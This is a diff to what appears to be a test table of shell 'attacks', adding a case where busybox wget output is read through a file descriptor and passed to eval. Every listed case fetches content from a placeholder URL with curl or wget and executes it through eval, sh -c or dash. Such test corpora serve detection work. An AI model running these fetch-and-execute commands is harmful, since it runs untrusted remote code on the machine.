@@ -46,6 +46,9 @@ const Attack kTextAttacks[] = {
     TEXT_CASE("a file, printed and evaluated", "curl -s -o @D/f @URL; sh -c \"$(cat @D/f)\""),
     TEXT_CASE("a file in a loop",
               "curl -s -o @D/f @URL; while read -r l; do eval \"$l\"; done < @D/f"),
+    // busybox's wget closes its stdout before it ends, and nobody has read a byte by then.
+    TEXT_CASE("read after its writer closed it",
+              "exec 3< <(busybox wget -qO- @URL); sleep 0.5; read -r x <&3; eval \"$x\""),
     // dash exports nothing to probe: the first line that is a program's command line tells.
     TEXT_CASE("eval in dash", "dash -c 'eval \"$(curl -s @PROGRAMS_URL)\"'"),
     TEXT_CASE("a dot in dash", "curl -s -o @D/f @PROGRAMS_URL; dash -c '. @D/f'"),
